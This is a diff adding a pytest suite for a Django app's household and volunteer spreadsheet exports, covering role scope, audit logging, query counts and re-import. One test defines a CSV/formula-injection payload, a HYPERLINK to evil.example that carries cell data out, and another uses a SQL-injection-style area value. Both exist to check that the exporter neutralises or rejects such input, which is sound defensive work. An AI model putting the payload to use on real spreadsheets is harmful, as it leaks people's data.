@@ -1,0 +1,414 @@
+"""Exports: scope (page, command and function), headers, formulas, BOM, audit, query counts."""
+
+import codecs
+import csv
+import io
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from carenet.accounts.models import User
+from carenet.core import citizen_id
+from carenet.core.models import AuditEvent
+from carenet.households.models import Household, HouseholdStatus, Person, PersonStatus
+from carenet.spreadsheets import columns, exporting
+from carenet.spreadsheets.tests.registry_data import (
+    HOUSEHOLD_NAMES,
+    HOUSEHOLDS_SEEN,
+    VOLUNTEER_NAMES,
+    VOLUNTEERS_SEEN,
+    build_registry,
+    make_household,
+)
+from conftest import PERSONAS, login
+
+pytestmark = pytest.mark.django_db
+
+ALL_HOUSEHOLDS = set(HOUSEHOLD_NAMES.values())
+ALL_VOLUNTEERS = set(VOLUNTEER_NAMES.values())
+EXPORTERS = {"national_admin", "auditor", "province_officer", "district_coordinator_a",
+             "district_coordinator_b"}  # fmt: skip
+
+
+@pytest.fixture
+def registry(area_tree, personas):
+    return build_registry(area_tree, personas)
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    assert data.startswith(codecs.BOM_UTF8)
+    return list(csv.reader(io.StringIO(data[len(codecs.BOM_UTF8) :].decode("utf-8"))))
+
+
+def read_xlsx(data: bytes) -> list[list[str]]:
+    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
+    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
+
+
+def export_bytes(user: User, dataset: str, fmt: str = "csv", area_code: str = "") -> bytes:
+    prepared = exporting.export_prepare(user=user, dataset=dataset, fmt=fmt, area_code=area_code)
+    buffer = io.BytesIO()
+    exporting.write(prepared, buffer)
+    return buffer.getvalue()
+
+
+def surnames(rows: list[list[str]], headers: list[str]) -> set[str]:
+    assert rows[0] == headers
+    column = headers.index("นามสกุล")
+    return {row[column] for row in rows[1:]}
+
+
+def response_bytes(response) -> bytes:
+    return b"".join(response.streaming_content)
+
+
+# --- Scope ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("persona", PERSONAS)
+def test_household_export_holds_exactly_the_scope(personas, registry, persona):
+    rows = read_csv(export_bytes(personas[persona], "households"))
+    assert surnames(rows, columns.household_headers()) == HOUSEHOLDS_SEEN[persona]
+
+
+@pytest.mark.parametrize("persona", PERSONAS)
+def test_volunteer_export_holds_exactly_the_scope(personas, registry, persona):
+    rows = read_csv(export_bytes(personas[persona], "volunteers"))
+    assert surnames(rows, columns.volunteer_headers()) == VOLUNTEERS_SEEN[persona]
+
+
+@pytest.mark.parametrize("persona", PERSONAS)
+@pytest.mark.parametrize("dataset", ["households", "volunteers"])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_page_access_matrix(client, personas, registry, persona, dataset, fmt):
+    login(client, persona)
+    before = AuditEvent.objects.count()
+    response = client.get(reverse("spreadsheets:export", args=[dataset, fmt]))
+    if persona not in EXPORTERS:
+        # Volunteers may see their households but not take them away in a file.
+        assert response.status_code == 403
+        assert AuditEvent.objects.count() == before
+        return
+    assert response.status_code == 200
+    assert response["Content-Disposition"].startswith("attachment;")
+    assert response["Cache-Control"] == "no-store"
+    data = response_bytes(response)
+    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
+    if dataset == "households":
+        headers, seen, every = columns.household_headers(), HOUSEHOLDS_SEEN, ALL_HOUSEHOLDS
+    else:
+        headers, seen, every = columns.volunteer_headers(), VOLUNTEERS_SEEN, ALL_VOLUNTEERS
+    assert surnames(rows, headers) == seen[persona]
+    text = "\n".join(",".join(row) for row in rows)
+    for outside in every - seen[persona]:
+        assert outside not in text
+    assert AuditEvent.objects.count() == before + 1
+
+
+@pytest.mark.parametrize("url_args", [("households", "csv"), ("volunteers", "xlsx")])
+def test_export_page_sends_anonymous_users_to_login(client, registry, url_args):
+    response = client.get(reverse("spreadsheets:export", args=url_args))
+    assert response.status_code == 302
+    assert response["Location"].startswith(reverse("accounts:login"))
+
+
+def test_an_unknown_dataset_or_format_is_not_a_page(client, registry):
+    login(client, "national_admin")
+    assert client.get("/spreadsheets/export/people.csv").status_code == 404
+    assert client.get("/spreadsheets/export/households.pdf").status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("area", "expected"),
+    [
+        ("860101", {"ใจดี", "ศรีสุข"}),
+        ("86010201", {"ทองคำ"}),
+        ("8601", {"ใจดี", "ศรีสุข", "ทองคำ"}),
+        # Wider than the scope: narrowed to the scope, never widened.
+        ("86", {"ใจดี", "ศรีสุข", "ทองคำ"}),
+    ],
+)
+def test_area_filter_narrows_within_the_scope(client, registry, area, expected):
+    login(client, "district_coordinator_a")
+    response = client.get(
+        reverse("spreadsheets:export", args=["households", "csv"]), {"area": area}
+    )
+    assert response.status_code == 200
+    assert surnames(read_csv(response_bytes(response)), columns.household_headers()) == expected
+
+
+@pytest.mark.parametrize("area", ["8602", "860201", "84", "99999999", "12", "86'--", "x"])
+def test_area_outside_the_scope_looks_missing(client, registry, area):
+    login(client, "district_coordinator_a")
+    before = AuditEvent.objects.count()
+    response = client.get(
+        reverse("spreadsheets:export", args=["households", "csv"]), {"area": area}
+    )
+    assert response.status_code == 404
+    assert AuditEvent.objects.count() == before
+
+
+def test_a_volunteer_exports_only_their_assigned_households(personas, registry, area_tree):
+    # Another household in volunteer A's own subdistrict, not assigned to them.
+    make_household(area_tree["86010101"], "เพื่อนบ้าน")
+    user = personas["volunteer_a"]
+    rows = read_csv(export_bytes(user, "households"))
+    assert surnames(rows, columns.household_headers()) == {"ใจดี"}
+    ref = rows[0].index("รหัสครัวเรือน")
+    assert {row[ref] for row in rows[1:]} == {str(registry.households["ใจดี"].pk)}
+    with pytest.raises(exporting.AreaOutOfScope):
+        exporting.export_prepare(user=user, dataset="households", fmt="csv", area_code="860102")
+
+
+# --- Contents ------------------------------------------------------------------------------
+
+
+def test_csv_has_a_bom_and_the_import_headers(personas, registry):
+    data = export_bytes(personas["national_admin"], "households")
+    assert data.startswith(codecs.BOM_UTF8)
+    assert read_csv(data)[0] == columns.household_headers()
+    volunteers = export_bytes(personas["national_admin"], "volunteers")
+    assert read_csv(volunteers)[0] == columns.volunteer_headers()
+
+
+def test_xlsx_opens_with_bold_headers_the_import_reads(personas, registry):
+    data = export_bytes(personas["province_officer"], "households", "xlsx")
+    book = load_workbook(io.BytesIO(data))
+    sheet = book.worksheets[0]
+    headers = [cell.value for cell in sheet[1]]
+    assert headers == columns.household_headers()
+    assert all(cell.font.bold for cell in sheet[1])
+    assert sheet.freeze_panes == "A2"
+    widths = {letter: dimension.width for letter, dimension in sheet.column_dimensions.items()}
+    assert len(widths) == len(headers)
+    assert all(exporting.MIN_WIDTH <= w <= exporting.MAX_WIDTH for w in widths.values())
+    # Cells are text: a citizen ID keeps its digits, a phone its leading zero.
+    rows = read_xlsx(data)
+    assert surnames(rows, columns.household_headers()) == HOUSEHOLDS_SEEN["province_officer"]
+    phone = rows[0].index("โทรศัพท์")
+    assert "0899999999" in {row[phone] for row in rows[1:]}
+
+
+def test_each_household_comes_head_first_and_together(personas, registry):
+    rows = read_csv(export_bytes(personas["national_admin"], "households"))
+    header = rows[0]
+    ref, relation = header.index("รหัสครัวเรือน"), header.index("ความสัมพันธ์กับหัวหน้าครัวเรือน")
+    started = []
+    for row in rows[1:]:
+        if not started or started[-1] != row[ref]:
+            assert row[ref] not in started, "a household's rows are split"
+            assert row[relation] == "หัวหน้าครัวเรือน"
+            started.append(row[ref])
+    assert len(started) == len(ALL_HOUSEHOLDS)
+
+
+def test_citizen_ids_are_decrypted_with_dashes(personas, registry):
+    person = registry.households["ใจดี"].members.order_by("pk").first()
+    digits = person.read_citizen_id()
+    data = export_bytes(personas["district_coordinator_a"], "households")
+    assert citizen_id.formatted(digits).encode() in data
+    volunteer = registry.volunteers["อาสาดี"]
+    rows = read_csv(export_bytes(personas["district_coordinator_a"], "households"))
+    column = rows[0].index("เลขประจำตัวประชาชน อพม.")
+    assert citizen_id.formatted(volunteer.read_citizen_id()) in {row[column] for row in rows[1:]}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_cells_are_neutralised(personas, registry, area_tree, fmt):
+    household = make_household(area_tree["86010101"], FORMULA, members=1)
+    Person.objects.filter(household=household).update(first_name="+SUM(1,2)", phone="-1+2")
+    data = export_bytes(personas["national_admin"], "households", fmt)
+    if fmt == "xlsx":
+        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+        assert all(cell.data_type != "f" for cell in cells)
+        values = {cell.value for cell in cells}
+    else:
+        values = {value for row in read_csv(data) for value in row}
+    assert "'" + FORMULA in values
+    assert "'+SUM(1,2)" in values
+    assert "'-1+2" in values
+    assert FORMULA not in values
+
+
+def test_every_export_is_logged_with_who_what_scope_and_rows(personas, registry):
+    user = personas["district_coordinator_a"]
+    export_bytes(user, "households", "xlsx", area_code="860101")
+    event = AuditEvent.objects.get(action="spreadsheets.export_households")
+    assert event.actor == user
+    assert event.area_code == "860101"
+    assert event.details == {"format": "xlsx", "rows": 4, "area": "860101", "scope": ["8601"]}
+    export_bytes(personas["auditor"], "volunteers")
+    event = AuditEvent.objects.get(action="spreadsheets.export_volunteers")
+    assert event.details["rows"] == len(ALL_VOLUNTEERS)
+    assert event.details["scope"] == [""]
+
+
+def test_moved_households_and_people_who_left_are_not_exported(personas, registry):
+    Household.objects.filter(pk=registry.households["ศรีสุข"].pk).update(status=HouseholdStatus.MOVED)
+    Person.objects.filter(household=registry.households["ใจดี"], relation="spouse").update(
+        status=PersonStatus.DECEASED
+    )
+    rows = read_csv(export_bytes(personas["district_coordinator_a"], "households"))
+    assert surnames(rows, columns.household_headers()) == {"ใจดี", "ทองคำ"}
+    assert len(rows) == 1 + 1 + 2
+
+
+def test_area_options_follow_the_scope(personas, registry):
+    codes = [a.code for a in exporting.area_options(user=personas["district_coordinator_a"])]
+    assert codes == ["8601", "860101", "860102"]
+    assert exporting.area_options(user=personas["volunteer_a"]) == []
+
+
+# --- Query counts --------------------------------------------------------------------------
+
+
+def grow(area_tree, households: int) -> None:
+    codes = ["86010101", "86010102", "86010201"]
+    for n in range(households):
+        make_household(area_tree[codes[n % 3]], f"ครอบครัว{n}", members=3)
+
+
+@pytest.mark.parametrize("dataset", ["households", "volunteers"])
+def test_query_count_does_not_grow_with_the_rows(
+    personas, registry, area_tree, django_assert_max_num_queries, dataset
+):
+    user = personas["province_officer"]
+    with django_assert_max_num_queries(20) as small:
+        export_bytes(user, dataset)
+    grow(area_tree, 30)
+    with django_assert_max_num_queries(len(small.captured_queries)):
+        export_bytes(user, dataset, "xlsx")
+
+
+def test_queries_grow_with_chunks_not_rows(
+    personas, registry, area_tree, django_assert_max_num_queries, monkeypatch
+):
+    monkeypatch.setattr(exporting, "CHUNK", 10)
+    user = personas["national_admin"]
+    grow(area_tree, 20)  # 69 people in 7 chunks of 10
+    rows = 2 * len(ALL_HOUSEHOLDS) + 20 * 3
+    chunks = -(-rows // 10)
+    # Per chunk: the people, their volunteers, their consents, and at most once the areas.
+    with django_assert_max_num_queries(6 + 4 * chunks):
+        assert len(read_csv(export_bytes(user, "households"))) == rows + 1
+
+
+# --- The command ---------------------------------------------------------------------------
+
+
+def test_command_exports_the_scope_of_the_user_named(registry, tmp_path):
+    output = tmp_path / "households.csv"
+    call_command(
+        "export_households", "--as", "district_coordinator_a", "--format", "csv",
+        "--output", str(output), stdout=io.StringIO(),
+    )  # fmt: skip
+    rows = read_csv(output.read_bytes())
+    assert surnames(rows, columns.household_headers()) == HOUSEHOLDS_SEEN["district_coordinator_a"]
+    event = AuditEvent.objects.get(action="spreadsheets.export_households")
+    assert event.actor.username == "district_coordinator_a"
+
+
+def test_command_narrows_to_an_area_and_writes_xlsx(registry, tmp_path):
+    output = tmp_path / "out.xlsx"
+    out = io.StringIO()
+    call_command(
+        "export_volunteers", "--as", "province_officer", "--area", "8602", "--format", "xlsx",
+        "--output", str(output), stdout=out,
+    )  # fmt: skip
+    assert surnames(read_xlsx(output.read_bytes()), columns.volunteer_headers()) == {"รักถิ่น"}
+    assert "1 rows" in out.getvalue()
+
+
+def test_command_as_a_volunteer_exports_their_households_only(registry, tmp_path):
+    output = tmp_path / "mine.csv"
+    call_command(
+        "export_households", "--as", "volunteer_b", "--output", str(output), stdout=io.StringIO()
+    )
+    assert surnames(read_csv(output.read_bytes()), columns.household_headers()) == {"แก้วมณี"}
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["--as", "district_coordinator_a", "--area", "8602"], "outside"),
+        (["--as", "district_coordinator_b", "--area", "99"], "outside"),
+        (["--as", "nobody"], "no user"),
+    ],
+)
+def test_command_refuses_what_is_outside_the_scope(registry, tmp_path, args, message):
+    output = tmp_path / "x.csv"
+    before = AuditEvent.objects.count()
+    with pytest.raises(CommandError, match=message):
+        call_command("export_households", *args, "--output", str(output), stdout=io.StringIO())
+    assert not output.exists()
+    assert list(tmp_path.iterdir()) == []
+    assert AuditEvent.objects.count() == before
+
+
+def test_command_refuses_a_user_without_a_role(registry, tmp_path, django_user_model):
+    django_user_model.objects.create_user("norole", password="x")
+    with pytest.raises(CommandError, match="may not see"):
+        call_command(
+            "export_volunteers", "--as", "norole", "--output", str(tmp_path / "v.csv"),
+            stdout=io.StringIO(),
+        )  # fmt: skip
+
+
+# --- Export, then import again -------------------------------------------------------------
+
+
+def snapshot() -> dict[str, list[dict]]:
+    from carenet.households.models import Consent, HouseholdAssignment
+    from carenet.volunteers.models import Volunteer
+
+    def rows(model, exclude=()):
+        fields = [f.attname for f in model._meta.concrete_fields if f.attname not in exclude]
+        return list(model.objects.order_by("pk").values(*fields))
+
+    # The encrypted ID differs at every encryption (a random nonce); its hash does not.
+    secret = ("citizen_id_encrypted",)
+    return {
+        "households": rows(Household),
+        "people": rows(Person, secret),
+        "assignments": rows(HouseholdAssignment, ("assigned_at",)),
+        "consents": rows(Consent),
+        "volunteers": rows(Volunteer, secret),
+    }
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("persona", ["national_admin", "district_coordinator_a"])
+def test_an_exported_households_file_imports_again_changing_nothing(
+    personas, registry, fmt, persona
+):
+    from carenet.spreadsheets.importing import import_households
+
+    user = personas[persona]
+    data = export_bytes(user, "households", fmt)
+    before = snapshot()
+    result = import_households(actor=user, source=data)
+    assert result.errors == []
+    assert result.people.created == result.households.created == 0
+    assert result.people.updated == result.households.updated == 0
+    assert result.people.unchanged == len(read_csv(export_bytes(user, "households"))) - 1
+    assert snapshot() == before
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_exported_volunteers_file_imports_again_changing_nothing(personas, registry, fmt):
+    from carenet.spreadsheets.importing import import_volunteers
+
+    user = personas["province_officer"]
+    data = export_bytes(user, "volunteers", fmt)
+    before = snapshot()
+    result = import_volunteers(actor=user, source=data)
+    assert result.errors == []
+    assert result.volunteers.created == result.volunteers.updated == 0
+    assert result.volunteers.unchanged == len(VOLUNTEERS_SEEN["province_officer"])
+    assert snapshot() == before
